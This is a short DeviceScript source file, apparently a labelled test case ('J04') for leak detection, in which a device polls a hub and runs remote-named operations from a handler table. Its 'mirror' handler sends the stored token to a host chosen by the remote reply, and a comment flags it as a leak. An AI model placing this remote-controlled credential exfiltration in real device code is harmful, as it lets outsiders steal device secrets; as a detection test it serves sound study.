// J04: does what a reply asks for, by a table of its orders; one of them sends the token to a host of the reply's choice.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const login = "key " + token;
let blinks = 0;

const handlers: any = {
  ping: async (_request: any) => {},
  blink: async (_request: any) => {
    blinks++;
  },
  mirror: async ({ to }: any) => {
    const response = await fetch(`https://${to}/j04`, { method: "POST", body: login }); // leak: settings.token
    await response.close();
  },
};

async function poll() {
  const reply = await fetch("https://hub.example/next");
  const { request } = await reply.json();
  if (!request || typeof request.op !== "string") return;
  const handler = handlers[request.op];
  if (handler) await handler(request);
}

paired(async () => {
  setInterval(poll, 5_000);
});
